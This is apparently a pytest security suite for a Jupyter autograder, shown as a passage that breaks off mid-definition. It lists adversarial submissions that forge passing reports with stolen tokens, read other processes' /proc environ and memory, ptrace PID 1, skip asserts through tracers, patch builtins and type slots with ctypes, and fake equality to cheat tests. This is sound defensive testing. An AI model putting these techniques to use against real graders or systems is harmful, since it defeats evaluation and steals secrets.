"""The grading trust boundary, attacked: a submission that wants marks without solving the exercise.

Student code is the adversary (README "Grading integrity"): everything its uid can touch is its
own — its process (frames, ``gc``, ``sys.modules``, builtins, type slots via ``ctypes``, audit
hooks, trace hooks, threads), every process it may signal, ptrace or open through ``/proc``, and
every writable place of the container. Each attack below is a real submission graded by the real
engine, through the Grader and through REST, and must

1. score no more than an honest wrong answer (the baseline, graded in the test itself),
2. leave no hidden marker (hidden test code, hidden inputs, hidden expected outputs) anywhere in
   the JSON of the result,
3. leave hidden tests saying only passed or failed.

The honesty checks at the end must keep working whatever the boundary becomes: full marks for a
right answer, objects behind handles (a class exercise), a mutated argument caught, ``except
ValueError`` and students' own exception classes (with their attributes) in test code, tracebacks
naming ``main.py``, what the code prints during a call, generators, objects handed back to the code.
"""

from __future__ import annotations

import asyncio
import json
import re
from pathlib import Path
from typing import Any

import pytest
from pytest_jupyter.jupyter_server import *  # noqa: F401,F403  (jp_fetch and its fixtures: the REST cases)
from traitlets.config import Config

from jupyter_exec_ext.grading import Grader, exercise_from_notebook
from jupyter_exec_ext.sandbox import SandboxConfig

from ..conftest import TEST_OWNER, release_server_sandbox
from .notebooks import exercise_notebook, write_notebook

pytestmark = pytest.mark.docker

# -- the exercise ---------------------------------------------------------------------------------
# Five functions, six visible tests (the first and the last print, so whatever a submission smuggles
# into a visible test's output shows up in the result; the hidden ones run before the last) and ten
# hidden ones. Every hidden test carries markers that appear nowhere else in this file outside its
# test code: a comment (only in the source), its inputs and its expected values.

HIDDEN_MARKERS = (
    "hx5e1d",
    "7f3a",  # hidden shout output
    "hx6b2c",
    "91c4",  # hidden shout type
    "hx3d9e",
    "5813",
    "2201",
    "4007",  # hidden mean
    "hx8a1f",
    "7346",
    "4429",
    "6618",  # hidden evens
    "hx2c7a",
    "zeta8",  # hidden count
    "hx4e5b",
    "9902",
    "1208",  # hidden builtins
    "hx9f0d",
    "3317",  # hidden float output
    "hx1a6c",
    "7041",  # hidden age
    "hx7c3e",
    "8123",  # hidden modules
    "hx0b7d",
    "yq2e",
    "zr4t",  # hidden map
)

MAIN_TESTS = [
    {"name": "shout hello", "test_code": "print(shout('hello'))", "expected_output": "HELLO!"},
    {
        "name": "hidden shout output",
        "hidden": True,
        "expected_output": "QZ7F3A!",
        "test_code": "# marker hx5e1d\nprint(shout('qz7f3a'))",
    },
    {
        "name": "hidden shout type",
        "hidden": True,
        "test_code": "# marker hx6b2c\nr = shout('wobble-91c4')\n"
        "assert isinstance(r, str) and type(r) == str and r == 'WOBBLE-91C4!'",
    },
    {
        "name": "hidden mean",
        "hidden": True,
        "test_code": "# marker hx3d9e\nr = mean([5813, 2201])\n"
        "assert abs(r - 4007.0) < 1e-9 and abs(4007.0 - r) < 1e-9",
    },
    {
        "name": "hidden evens",
        "hidden": True,
        "test_code": "# marker hx8a1f\nxs = [7346, 3, 4429, 6618]\n"
        "assert evens(xs) == [7346, 6618]\nassert xs == [7346, 3, 4429, 6618]",
    },
    {
        "name": "hidden count",
        "hidden": True,
        "test_code": "# marker hx2c7a\nc = count_words('zeta8 eta8 zeta8')\n"
        "assert c == {'zeta8': 2, 'eta8': 1} and c['zeta8'] == 2",
    },
    {
        "name": "hidden builtins",
        "hidden": True,
        "test_code": "# marker hx4e5b\nr = evens([9902, 5, 1208])\n"
        "assert len(r) == 2 and sorted(r) == [1208, 9902]\n"
        "assert list(reversed(r)) == [1208, 9902] and all(map(lambda v: v % 2 == 0, r))",
    },
    {
        "name": "hidden float output",
        "hidden": True,
        "expected_output": "3317.5",
        "compare": "float",
        "test_code": "# marker hx9f0d\nprint(mean([3317, 3318]))",
    },
    {
        "name": "hidden age",
        "hidden": True,
        "test_code": "# marker hx1a6c\nassert parse_age('7041') == 7041",
    },
    {
        "name": "hidden modules",
        "hidden": True,
        "test_code": "# marker hx7c3e\nimport math, random, statistics, time, unittest\n"
        "t0 = time.monotonic()\nrandom.seed(8123)\n"
        "xs = [random.randint(1, 10**6) for _ in range(9)]\n"
        "want = [x for x in xs if x % 2 == 0]\n"
        "unittest.TestCase().assertEqual(evens(xs), want)\n"
        "assert math.isclose(mean([8123, 1]), statistics.fmean([8123, 1]))\n"
        "assert time.monotonic() - t0 < 4",
    },
    {
        "name": "hidden map",
        "hidden": True,
        "test_code": "# marker hx0b7d\nassert all(map(lambda w: shout(w) == w.upper() + '!', ['yq2e', 'zr4t']))",
    },
    {"name": "visible mean", "test_code": "assert abs(mean([1, 2, 3, 4]) - 2.5) < 1e-9"},
    {
        "name": "visible evens",
        "test_code": "xs = [1, 2, 3, 4]\nassert evens(xs) == [2, 4]\nassert xs == [1, 2, 3, 4]",
    },
    {
        "name": "visible age rejects",
        "test_code": "try:\n    parse_age('-1')\nexcept ValueError:\n    pass\nelse:\n"
        "    raise AssertionError(\"parse_age('-1') must raise ValueError\")",
    },
    {
        "name": "visible json",
        "expected_output": '{"a": 2, "b": 1}',
        "test_code": "import json\nprint(json.dumps(count_words('a b a'), sort_keys=True))",
    },
    {"name": "shout world", "test_code": "print(shout('world'))", "expected_output": "WORLD!"},
]
# No test here loops on purpose, so a generous timeout costs nothing; a short one would let an
# attack that is merely slow on a loaded machine (a harness import, a tracer) pass for contained.
for _t in MAIN_TESTS:
    _t["timeout"] = 5

RIGHT = """\
def shout(s):
    return s.upper() + "!"

def mean(xs):
    return sum(xs) / len(xs)

def evens(xs):
    return [x for x in xs if x % 2 == 0]

def count_words(s):
    counts = {}
    for w in s.split():
        counts[w] = counts.get(w, 0) + 1
    return counts

def parse_age(s):
    n = int(s)
    if n < 0:
        raise ValueError("an age is never negative")
    return n
"""

# An honest wrong answer: what a student who did not solve the exercise gets.
WRONG = """\
def shout(s):
    return s

def mean(xs):
    return 0.0

def evens(xs):
    return []

def count_words(s):
    return {}

def parse_age(s):
    n = int(s)
    if n < 0:
        raise TypeError("negative")
    return n
"""

# What the attacks build on: the wrong answer behind hooks, and a stash every function prints, so a
# visible output test shows whatever an earlier (hidden) test could leave behind.
ATTACK_BASE = (
    "import os, sys, json\n\n"
    + WRONG.replace("def ", "def _w_")
    + r"""
_STASH_DIRS = ("/tmp", "/dev/shm")

def _stash(tag, data):
    for d in _STASH_DIRS:
        try:
            with open(os.path.join(d, ".stash-" + tag), "a") as f:
                f.write(repr(data)[:4000] + "\n")
        except Exception:
            pass

def _dump():
    out = []
    for d in _STASH_DIRS:
        try:
            names = os.listdir(d)
            names.sort()
        except Exception:
            continue
        for n in names:
            if n.startswith(".stash-"):
                try:
                    with open(os.path.join(d, n)) as f:
                        out.append(n + ": " + f.read()[:6000])
                except Exception:
                    pass
    if out:
        sys.stdout.write("STASH " + repr(out)[:9000] + "\n")

def _hook(name, arg):
    pass

def _result(name, arg, wrong):
    return wrong

def shout(s):
    _hook("shout", s)
    _dump()
    return _result("shout", s, _w_shout(s))

def mean(xs):
    _hook("mean", xs)
    return _result("mean", xs, _w_mean(xs))

def evens(xs):
    _hook("evens", xs)
    return _result("evens", xs, _w_evens(xs))

def count_words(s):
    _hook("count_words", s)
    return _result("count_words", s, _w_count_words(s))

def parse_age(s):
    _hook("parse_age", s)
    return _result("parse_age", s, _w_parse_age(s))
"""
)

# Finds candidate tokens/nonces (hex strings) and writes "passed" reports and protocol frames with
# each of them to every file descriptor it holds; the attacks that steal a token use it.
FORGE = r"""
import re as _re

_HEX = _re.compile(r"^[0-9a-fA-F]{16,64}$")

def _add(found, t, front=False):
    if isinstance(t, bytes):
        t = t.decode("latin-1")
    if t in found:
        found.remove(t)
    found.insert(0, t) if front else found.append(t)

def _tokens_in(obj, found, depth=0):
    # found: a list, tokens kept under a name like "token" or "nonce" first.
    if depth > 3:
        return
    if isinstance(obj, (str, bytes)):
        text = obj.decode("latin-1") if isinstance(obj, bytes) else obj
        if _HEX.match(text):
            _add(found, text)
        return
    if isinstance(obj, dict):
        for k, v in list(obj.items())[:200]:
            if isinstance(k, str) and any(w in k.lower() for w in ("token", "nonce", "secret")):
                if isinstance(v, (str, bytes)) and _HEX.match(v if isinstance(v, str) else v.decode("latin-1")):
                    _add(found, v, front=True)
            _tokens_in(v, found, depth + 1)
    elif isinstance(obj, (list, tuple, set)):
        for v in list(obj)[:200]:
            _tokens_in(v, found, depth + 1)

def _frames_forged(tokens, n_checks=16):
    lines = []
    for t in list(tokens)[:8] + ["0" * 32]:
        for i in range(n_checks):
            lines.append(t + " " + json.dumps({"type": "check", "index": i, "outcome": "completed",
                                                "stdout": "", "stderr": "", "error": None,
                                                "duration_ms": 1}))
        lines.append(t + " " + json.dumps({"type": "result", "status": "ok", "exit_code": 0,
                                            "duration_ms": 1, "truncated": False, "message": ""}))
    return ("\n".join(lines) + "\n").encode()

def _forge(tokens, fds=None, objects=()):
    # Protocol frames on stdout/stderr; one "passed" report (best token) on every other descriptor
    # and every socket-like object: a second one would make the first unreadable.
    tokens = list(tokens) or ["0" * 32]
    frames = _frames_forged(tokens)
    report = json.dumps({"token": tokens[0], "ok": True}).encode()
    for fd in (fds if fds is not None else range(1, 256)):
        try:
            os.write(fd, frames if fd in (1, 2) else report)
        except OSError:
            pass
    for obj in objects:
        for meth in ("sendall", "send", "write"):
            try:
                getattr(obj, meth)(report)
                break
            except Exception:
                pass
"""


def attack(body: str, forge: bool = False) -> str:
    return ATTACK_BASE + (FORGE if forge else "") + "\n" + body


ATTACKS: dict[str, str] = {}

# Lines that look like the runner's protocol, with guessed nonces and with every hex string the code
# can find (gc, /proc/*/cmdline, /proc/*/environ), on stdout and stderr, at the top and inside every
# tested call; "passed" reports with the same tokens go to every descriptor. A stolen token makes the
# call leave at once, so no honest report can follow the forged one.
ATTACKS["forged frames with guessed and stolen nonces"] = attack(
    r"""
import gc

def _harvest():
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            _tokens_in(obj, found, 2)
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for part in ("cmdline", "environ"):
                try:
                    with open("/proc/%s/%s" % (pid, part), "rb") as f:
                        for word in _re.split(rb"[\x00\s=]", f.read()):
                            _tokens_in(word, found)
                except OSError:
                    pass
    return found

def _hook(name, arg):
    found = _harvest()
    blob = _frames_forged(found)
    sys.stdout.write(blob.decode())
    sys.stderr.write(blob.decode())
    sys.stdout.flush()
    sys.stderr.flush()
    _forge(found)
    if found:
        os._exit(0)

_top = _harvest()
sys.stdout.write(_frames_forged(_top).decode())
sys.stderr.write(_frames_forged(_top).decode())
""",
    forge=True,
)

# PID 1 and /proc: other processes' fds (PID 1's stdout is the container's output stream), their
# cmdline, environ and memory; everything found is stashed for a later visible test to print, and
# forged frames go to every writable fd of every process and to /dev/console.
ATTACKS["pid 1 and /proc: fds, environ, cmdline, mem"] = attack(
    r"""
# What test code of this exercise looks like (the visible tests show it): calls with literal inputs.
# Built at run time, so that this source itself never matches.
_PATTERNS = tuple((n + o).encode() for n in ("shout", "mean", "evens", "count_words", "parse_age")
                  for o in ("('", '("', "(["))

def _scan_mem(pid, patterns=_PATTERNS):
    hits = []
    try:
        maps = open("/proc/%s/maps" % pid).read().splitlines()
        mem = open("/proc/%s/mem" % pid, "rb", 0)
    except OSError as e:
        return ["%s: %s" % (pid, e.__class__.__name__)]
    budget = 48 << 20
    with mem:
        for line in maps:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if "r" not in parts[1] or hi - lo > (16 << 20) or budget <= 0:
                continue
            if len(parts) > 5 and parts[5].startswith("/") and "w" not in parts[1]:
                continue
            budget -= hi - lo
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            for p in patterns:
                start = 0
                while len(hits) < 60:
                    i = data.find(p, start)
                    if i < 0:
                        break
                    hits.append(data[max(0, i - 10):i + 200].replace(b"\0", b""))
                    start = i + 1
    return hits

def _steal_from(hits, arg):
    # A message that carries this very call's input and a token: forge a report with that token.
    me = repr(arg).encode()
    for hit in hits:
        if isinstance(hit, bytes) and me in hit:
            m = _re.search(rb'"(?:token|nonce)": "([0-9a-f]{16,64})"', hit)
            if m:
                _forge([m.group(1).decode()])
                os._exit(0)

def _hook(name, arg):
    me = os.getpid()
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    targets = ["/proc/1/fd/1", "/proc/1/fd/2", "/dev/console"]
    for pid in pids:
        if pid == me:
            continue
        for part in ("cmdline", "environ"):
            try:
                with open("/proc/%d/%s" % (pid, part), "rb") as f:
                    _stash("proc", (pid, part, f.read()[:3000]))
            except OSError:
                pass
        try:
            targets += ["/proc/%d/fd/%s" % (pid, fd) for fd in os.listdir("/proc/%d/fd" % pid)]
        except OSError:
            pass
        hits = _scan_mem(pid)
        if hits:
            _stash("mem", (pid, hits))
            _steal_from(hits, arg)
    hits = _scan_mem("self")
    if hits:
        _stash("mem", ("self", hits))
    blob = _frames_forged([])
    for path in targets:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(fd, blob)
            if path.startswith("/proc/1/") or path == "/dev/console":
                _stash("opened", path)
        except OSError:
            pass
        finally:
            os.close(fd)
""",
    forge=True,
)

# ptrace(PTRACE_ATTACH) to PID 1 and to every other process, then its memory through /proc.
ATTACKS["ptrace attach to pid 1 and every other pid"] = attack(r"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_libc.ptrace.restype = ctypes.c_long

def _hook(name, arg):
    me = os.getpid()
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        if pid == me:
            continue
        if _libc.ptrace(16, pid, None, None) != 0:           # PTRACE_ATTACH
            _stash("ptrace", (pid, "denied", ctypes.get_errno()))
            continue
        try:
            os.waitpid(pid, 0x40000000)                       # __WALL
        except OSError:
            pass
        found = []
        try:
            maps = open("/proc/%d/maps" % pid).read().splitlines()
            with open("/proc/%d/mem" % pid, "rb", 0) as mem:
                for line in maps:
                    parts = line.split()
                    lo, hi = (int(x, 16) for x in parts[0].split("-"))
                    if "rw" not in parts[1] or hi - lo > (16 << 20):
                        continue
                    try:
                        mem.seek(lo)
                        data = mem.read(hi - lo)
                    except (OSError, ValueError, OverflowError):
                        continue
                    for p in tuple((n + o).encode() for n in ("shout", "mean", "evens", "count_words",
                                                              "parse_age") for o in ("('", '("', "([")):
                        i = data.find(p)
                        while i >= 0 and len(found) < 40:
                            found.append(data[max(0, i - 10):i + 200].replace(b"\0", b""))
                            i = data.find(p, i + 1)
        except OSError:
            pass
        _stash("ptrace", (pid, "attached", found))
        _libc.ptrace(17, pid, None, None)                     # PTRACE_DETACH
""")

# Up the stack from inside the tested call: every frame's locals (sys._getframe and inspect.stack),
# hex tokens, descriptors and writable objects; a token found means a forged report, then leave.
ATTACKS["frame walking to steal the check token"] = attack(
    r"""
import inspect

def _hook(name, arg):
    tokens, fds, objects = [], set(), []
    frames = []
    f = sys._getframe(1)
    while f is not None:
        frames.append(f)
        f = f.f_back
    frames += [fi.frame for fi in inspect.stack()]
    for fr in frames:
        for k, v in list(fr.f_locals.items()):
            _tokens_in(v, tokens)
            if isinstance(v, int) and 2 < v < 1024:
                fds.add(v)
            if isinstance(v, (list, tuple)) and all(isinstance(x, int) for x in v):
                fds.update(x for x in v if 2 < x < 1024)
            if any(hasattr(v, m) for m in ("sendall", "send")) or (
                    hasattr(v, "write") and not isinstance(v, type)):
                objects.append(v)
    if tokens:
        _forge(tokens, sorted(fds | set(range(3, 256))), objects)
        os._exit(0)
""",
    forge=True,
)

# The trusted code as an oracle: the caller's code constants and locals give the expected values.
# What the calls see is stashed for the last visible test.
ATTACKS["frame walking for the test's expected values"] = attack(r"""
import inspect

def _callers():
    out = []
    f = sys._getframe(3)
    while f is not None:
        if f.f_code.co_filename != __file__:
            out.append(f)
        f = f.f_back
    return out

def _consts(frames):
    seen = []
    for fr in frames:
        for c in fr.f_code.co_consts:
            seen.append(c)
        for v in list(fr.f_locals.values()):
            if isinstance(v, (str, int, float, list, tuple, dict)):
                seen.append(v)
    return seen

def _hook(name, arg):
    frames = _callers()
    _stash("oracle", [(fr.f_code.co_filename, fr.f_code.co_consts) for fr in frames])
    for fi in inspect.stack():
        _stash("oracle", (fi.filename, fi.lineno, fi.code_context))

def _result(name, arg, wrong):
    consts = _consts(_callers())
    if name == "shout":
        for c in consts:
            if isinstance(c, str) and c.endswith("!") and c != arg:
                return c
    if name == "mean":
        for c in consts:
            if isinstance(c, float) and c > 1:
                return c
    if name == "evens":
        for c in consts:
            if isinstance(c, (tuple, list)) and c and list(c) != list(arg) and set(c) <= set(arg):
                return list(c)
    if name == "count_words":
        for c in consts:
            if isinstance(c, dict) and set(c) <= set(arg.split()):
                return dict(c)
    return wrong
""")

# sys.settrace / sys.setprofile / threading.settrace installed at the top: the tracer sees the test's
# frames, skips its assert lines where it can, looks for a token up the stack and forges with it.
ATTACKS["settrace, setprofile and threading.settrace"] = attack(
    r"""
import dis, threading

_asserts = {}

def _assert_lines(code):
    if id(code) not in _asserts:
        lines, current = set(), None
        for ins in dis.get_instructions(code):
            if ins.starts_line is not None:
                current = ins.starts_line
            if ins.opname in ("LOAD_ASSERTION_ERROR", "RAISE_VARARGS"):
                lines.add(current)
        _asserts[id(code)] = lines
    return _asserts[id(code)]

def _code_lines(code):
    return sorted({l for _, _, l in code.co_lines() if l is not None})

def _steal(frame):
    tokens = []
    f = frame
    while f is not None:
        _tokens_in(dict(f.f_locals), tokens)
        f = f.f_back
    if tokens:
        _forge(tokens)
        os._exit(0)

_seen_codes = set()

def _tracer(frame, event, arg):
    code = frame.f_code
    if code.co_filename == __file__:
        return None
    if id(code) not in _seen_codes:
        _seen_codes.add(id(code))
        _stash("trace", (event, code.co_filename, code.co_name, code.co_consts))
    if event == "call":
        _steal(frame)
    if event == "line" and frame.f_lineno in _assert_lines(code):
        later = [l for l in _code_lines(code) if l > frame.f_lineno]
        if later:
            try:
                frame.f_lineno = later[0]
            except ValueError:
                pass
    return _tracer

def _profiler(frame, event, arg):
    code = frame.f_code
    if code.co_filename != __file__ and ("p", id(code)) not in _seen_codes:
        _seen_codes.add(("p", id(code)))
        _stash("profile", (event, code.co_filename, code.co_consts))

sys.settrace(_tracer)
threading.settrace(_tracer)
sys.setprofile(_profiler)
threading.setprofile(_profiler)

def _hook(name, arg):
    f = sys._getframe(2)
    while f is not None:
        f.f_trace = _tracer
        f = f.f_back
    sys.settrace(_tracer)
""",
    forge=True,
)

# gc.get_objects(): the grader's own objects in the student's memory. Whatever maps names to exec or
# compile gets a no-op, anything that looks like test code is stashed.
ATTACKS["gc.get_objects for test code and result writers"] = attack(r"""
import builtins, gc

def _noop(*args, **kwargs):
    return None

def _patch_everything():
    for obj in gc.get_objects():
        if isinstance(obj, dict) and obj is not builtins.__dict__:
            for key in ("exec", "compile", "verdict"):
                if key in obj and callable(obj[key]) and obj is not globals():
                    try:
                        obj[key] = _noop if key != "compile" else (lambda *a, **k: compile("pass", "x", "exec"))
                    except Exception:
                        pass

def _hook(name, arg):
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for k, v in list(obj.items())[:50]:
                if isinstance(v, str) and ("assert " in v or "print(" in v) and "_stash" not in v:
                    _stash("gc", v[:500])
    _patch_everything()

_patch_everything()
""")

# The modules a test imports, replaced: sys.modules entries, a meta_path finder, and module files on
# every writable path (with that path put first on sys.path) that a test's import could pick up.
FAKE_MODULE = r"""
class _L:
    def __init__(self, *a, **k): pass
    def __call__(self, *a, **k): return _L()
    def __getattr__(self, name): return _L()
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __lt__(self, o): return True
    __le__ = __lt__
    def __gt__(self, o): return False
    __ge__ = __gt__
    def __sub__(self, o): return _L()
    __rsub__ = __add__ = __radd__ = __sub__
    def __abs__(self): return _L()
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __hash__(self): return 0
    def __iter__(self): return iter(())
    def __str__(self): return '{"a": 2, "b": 1}'
def seed(*a, **k): pass
def randint(a, b): return 1
def isclose(*a, **k): return True
def dumps(*a, **k): return '{"a": 2, "b": 1}'
def fmean(*a, **k): return _L()
def monotonic(): return 0.0
perf_counter = time = monotonic
class TestCase:
    def __init__(self, *a, **k): pass
    def __getattr__(self, name): return lambda *a, **k: None
def __getattr__(name): return _L()
"""

ATTACKS["stdlib and sys.modules patching"] = attack(
    r"""
import importlib.abc, importlib.util, types

_FAKE = """
    + repr(FAKE_MODULE)
    + r"""
_NAMES = ("math", "random", "json", "unittest", "time", "statistics", "fractions", "decimal")

def _fake(name):
    mod = types.ModuleType(name)
    exec(_FAKE, mod.__dict__)
    return mod

class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in _NAMES:
            return importlib.util.spec_from_loader(name, self)
        return None
    def create_module(self, spec):
        return _fake(spec.name)
    def exec_module(self, module):
        pass

for _dir in ("/tmp", "/dev/shm", "/tmp/.local/lib/python3.11/site-packages",
             "/tmp/.local/lib/python3.12/site-packages"):
    try:
        os.makedirs(_dir, exist_ok=True)
        for _n in _NAMES + ("sitecustomize", "usercustomize"):
            with open(os.path.join(_dir, _n + ".py"), "w") as _f:
                _f.write(_FAKE)
    except OSError:
        pass
    sys.path.insert(0, _dir)

def _install():
    _real_json = sys.modules.get("json")
    for _n in _NAMES:
        sys.modules[_n] = _fake(_n)
    if not any(isinstance(f, _Finder) for f in sys.meta_path):
        sys.meta_path.insert(0, _Finder())
    return _real_json

_install()

def _hook(name, arg):
    _install()
"""
)

# Builtins shadowed at module level (the test's globals) and patched in the builtins module.
ATTACKS["builtins shadowing"] = attack(r"""
import builtins

class _Eq:
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __lt__(self, o): return True
    def __gt__(self, o): return False
    def __mod__(self, o): return 0
    def __hash__(self): return 0
    def __bool__(self): return True
    def __abs__(self): return _Eq()
    def __sub__(self, o): return _Eq()
    __rsub__ = __sub__

class _Quiet(BaseException):
    pass

_fakes = {
    "print": lambda *a, **k: sys.stdout.write("HELLO!\n"),
    "reversed": lambda x: iter([_Eq(), _Eq()]),
    "map": lambda f, *xs: [True],
    "sorted": lambda x, **k: _Eq(),
    "len": lambda x: 2,
    "isinstance": lambda *a: True,
    "abs": lambda x: _Eq(),
    "all": lambda x: True,
    "any": lambda x: True,
    "type": lambda *a: _Eq(),
    "list": lambda *a: _Eq(),
    "ValueError": Exception,
    "AssertionError": _Quiet,
}
# All of them in the module's globals; in the builtins module only those the process itself can
# live without (a patched len or type would stop the code that serves the tests).
for _k, _v in _fakes.items():
    globals()[_k] = _v
    if _k in ("print", "reversed", "map", "sorted", "abs", "all", "any", "ValueError", "AssertionError"):
        setattr(builtins, _k, _v)
""")

# Liars (1): an always-equal object whose metaclass also says equal, with a __class__ property that
# claims str; `abs(r - v) < tol` answered by __sub__/__rsub__/__abs__/__lt__; a real list of lying
# elements; a real dict whose keys hash like the right words and compare equal to anything.
LIARS = r"""
class _Meta(type):
    def __eq__(cls, other): return True
    def __ne__(cls, other): return False
    __hash__ = type.__hash__

class _Small:
    def __abs__(self): return self
    def __lt__(self, o): return True
    __le__ = __lt__
    def __gt__(self, o): return False
    __ge__ = __gt__
    def __bool__(self): return True
    def __float__(self): return 0.0

class _Liar(metaclass=_Meta):
    def __init__(self, text="", h=None):
        self.text, self.h = text, h
    @property
    def __class__(self):
        return str
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __hash__(self): return hash(self.text) if self.h is None else self.h
    def __str__(self): return self.text
    def __repr__(self): return repr(self.text)
    def __sub__(self, o): return _Small()
    __rsub__ = __sub__
    def __abs__(self): return _Small()
    def __lt__(self, o): return True
    __le__ = __lt__
    def __gt__(self, o): return False
    __ge__ = __gt__
    def __mod__(self, o): return 0
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __len__(self): return 2
    def __iter__(self): return iter([_Liar(), _Liar()])
"""

ATTACKS["liars: always-equal, metaclass, __class__, abs/rsub, lying elements, dict keys"] = attack(
    LIARS
    + r"""
class _EqList(list, metaclass=_Meta):
    def __eq__(self, o): return True
    def __ne__(self, o): return False

def _result(name, arg, wrong):
    if name == "shout":
        return _Liar(arg)
    if name == "mean":
        return _Liar("0.0")
    if name == "evens":
        return [_Liar() for _ in range((len(arg) + 1) // 2)]
    if name == "count_words":
        return {_Liar(w): _Liar() for w in set(arg.split())}
    return wrong
"""
)

# Liars (2): a str subclass that equals anything, == answering a non-bool object whose __bool__ says
# True, NaN, a list subclass and a dict subclass that equal anything.
ATTACKS["liars: str subclass, __bool__, NaN, list and dict subclasses"] = attack(
    LIARS
    + r"""
class _Truthy:
    def __bool__(self): return True

class _Falsy:
    def __bool__(self): return False

class _S(str):
    def __eq__(self, o): return _Truthy()
    def __ne__(self, o): return _Falsy()
    __hash__ = str.__hash__

class _L(list):
    def __eq__(self, o): return _Truthy()
    def __ne__(self, o): return _Falsy()

class _D(dict):
    def __eq__(self, o): return _Truthy()
    def __ne__(self, o): return _Falsy()
    def __getitem__(self, k): return _Liar()
    def get(self, k, d=None): return _Liar()
    def __contains__(self, k): return True

def _result(name, arg, wrong):
    if name == "shout":
        return _S(arg)
    if name == "mean":
        return float("nan")
    if name == "evens":
        return _L([0] * ((len(arg) + 1) // 2))
    if name == "count_words":
        return _D({"a": 2, "b": 1})
    if name == "parse_age":
        return _S(arg)
    return wrong
"""
)

# ctypes: the comparison slot (tp_richcompare) of str, int, float, list, dict and tuple rewritten to
# say "equal" and "less" to everything, inside the tested call.
ATTACKS["ctypes patching of builtin type slots"] = attack(r"""
import ctypes

_RC = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)

def _lie(a, b, op, _answers=[True, True, True, False, False, False]):
    # <, <=, == true; !=, >, >= false. Nothing in here may compare (it would call itself).
    return _answers[op]

_cb = _RC(_lie)
_TP_NAME, _TP_FLAGS, _TP_RICHCOMPARE = 24, 168, 200

def _patch():
    for t in (str, int, float, list, dict, tuple):
        name = ctypes.cast(ctypes.c_void_p.from_address(id(t) + _TP_NAME).value, ctypes.c_char_p).value
        flags = ctypes.c_ulong.from_address(id(t) + _TP_FLAGS).value
        if name != t.__name__.encode() or flags != t.__flags__:
            continue                 # not the layout expected: leave it
        ctypes.c_void_p.from_address(id(t) + _TP_RICHCOMPARE).value = ctypes.cast(_cb, ctypes.c_void_p).value

def _result(name, arg, wrong):
    _patch()
    return wrong
""")

# sys.addaudithook: every compile/exec the process does (test code too, if it is compiled there)
# is written to /tmp and /dev/shm for the last visible test to print.
ATTACKS["audit hooks stash compiled sources"] = attack(r"""
_busy = [False]

def _audit(event, args):
    if _busy[0] or event not in ("compile", "exec", "code.__new__", "marshal.loads"):
        return
    _busy[0] = True
    try:
        text = repr(args[0] if args else args)
        if "_audit" not in text:
            for d in ("/tmp", "/dev/shm"):
                try:
                    fd = os.open(d + "/.stash-audit", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o666)
                    os.write(fd, (text[:3000] + "\n").encode())
                    os.close(fd)
                except OSError:
                    pass
    finally:
        _busy[0] = False

sys.addaudithook(_audit)
""")

# State shared across checks: every call leaves its argument in every place that might outlive it
# (files in /tmp, /dev/shm, /dev/mqueue; System V shared memory; xattrs and times of the writable
# directories themselves); every call prints everything it finds.
ATTACKS["shared files and state across checks"] = attack(r"""
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_KEY, _SIZE = 0x5EED, 65536

def _shm():
    ident = _libc.shmget(_KEY, _SIZE, 0o1666)      # IPC_CREAT | 0666
    if ident < 0:
        return None
    addr = _libc.shmat(ident, None, 0)
    return None if addr in (None, ctypes.c_void_p(-1).value) else addr

def _hook(name, arg):
    _stash("args", (name, arg))
    for d in ("/dev/mqueue",):
        try:
            with open(d + "/.stash-args", "a") as f:
                f.write(repr(arg) + "\n")
        except OSError:
            pass
    for d in ("/tmp", "/dev/shm"):
        try:
            os.setxattr(d, "user.stash", repr(arg).encode()[:200])
        except (OSError, AttributeError):
            pass
    addr = _shm()
    if addr:
        old = ctypes.string_at(addr, _SIZE).split(b"\0", 1)[0]
        new = (old + repr(arg).encode() + b";")[:_SIZE - 1]
        ctypes.memmove(addr, new, len(new))
    found = []
    try:
        found.append(open("/dev/mqueue/.stash-args").read())
    except OSError:
        pass
    for d in ("/tmp", "/dev/shm"):
        try:
            found.append(os.getxattr(d, "user.stash"))
        except (OSError, AttributeError):
            pass
    if addr:
        found.append(ctypes.string_at(addr, _SIZE).split(b"\0", 1)[0])
    if found:
        sys.stdout.write("SHARED " + repr(found)[:8000] + "\n")
""")

# Another thread reads sys._current_frames(): all frames of all threads, their locals and code.
ATTACKS["threads reading sys._current_frames"] = attack(
    r"""
import threading

def _spy(box):
    tokens, objects = [], []
    for tid, frame in sys._current_frames().items():
        f = frame
        while f is not None:
            if f.f_code.co_filename != __file__:
                box.append((f.f_code.co_filename, f.f_code.co_consts))
            for v in list(f.f_locals.values()):
                _tokens_in(v, tokens)
                if hasattr(v, "sendall") or hasattr(v, "send"):
                    objects.append(v)
            f = f.f_back
    if tokens:
        _forge(tokens, objects=objects)
        os._exit(0)

def _hook(name, arg):
    box = []
    t = threading.Thread(target=_spy, args=(box,))
    t.start()
    t.join()
    _stash("threads", box)
""",
    forge=True,
)

# A daemon (double fork, setsid) started at the top: it keeps what calls send it over an abstract
# unix socket, watches /proc for new processes and reads what it can of them, and hands everything
# back to any later call.
ATTACKS["background daemon surviving into later checks"] = attack(r"""
import socket, time

_ADDR = "\0jx-stash-5bd1"

def _daemon():
    kept, puts = [], []
